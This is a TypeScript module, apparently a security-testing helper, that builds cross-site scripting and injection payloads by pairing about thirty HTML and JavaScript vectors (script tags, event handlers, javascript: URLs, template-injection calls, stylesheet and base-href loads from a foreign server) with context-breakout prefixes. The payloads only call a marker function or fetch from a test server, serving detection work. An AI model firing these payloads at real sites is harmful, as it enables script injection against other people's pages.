type Vector = (run: string, foreign: string) => string;

/** Ways to run a script, or to load something from elsewhere, for a page that takes a text for markup or for code. */
const VECTORS: Vector[] = [
  (run) => `<script>${run}</script>`,
  (_run, foreign) => `<script src=${foreign}/script></script>`,
  (run) => `<img src=x onerror=${run}>`,
  (_run, foreign) => `<img src=${foreign}/image>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (_run, foreign) => `<embed src=${foreign}/embed>`,
  (run) => `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<body onload=${run}>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
  (run) => `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  (_run, foreign) => `<style>@import '${foreign}/style';</style>`,
  (_run, foreign) => `<link rel=stylesheet href=${foreign}/link>`,
  (_run, foreign) => `<base href=${foreign}/base>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<custom-element style="animation:x" onanimationstart=${run}>`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `');${run};//`,
  (run) => `{{constructor.constructor('${run}')()}}`,
];

/** What a text may have to break out of before it is read as markup or code. */
const CONTEXTS: [before: string, after: string][] = [
  ...([
    ["", ""],
    ['">', ""],
    ["'>", ""],
    ["`>", "`"],
    ["</script>", ""],
    ["</title>", ""],
  ] as [string, string][]),
  ...([
    ["</textarea>", ""],
    ["</style>", ""],
    ["--><!-->", "<!--"],
    ["]]>", ""],
    ["</dialog></body>", ""],
  ] as [string, string][]),
  ...([
    ["\0", "\0"],
    ["<", ">"],
    ["&lt;", "&gt;"],
    ["$1 ${", "}"],
    ["\u202e", ""],
    ["%3C", "%3E"],
  ] as [string, string][]),
  ['<noscript><p title="</noscript>', '">'],
];

/**
 * Makes the texts of a hostile service. Whichever is taken for more than text calls `executed` with its number, or
 * loads something from the foreign server.
 *
 * @param foreign - the address of a server that nobody has a reason to ask
 */
export function makePayloads(foreign: string): string[] {
  const pairs = VECTORS.flatMap((vector) => CONTEXTS.map((context) => ({ vector, context })));
  return pairs.map(({ vector, context: [before, after] }, index) => {
    return before + vector(`executed(${index})`, foreign) + after;
  });
}
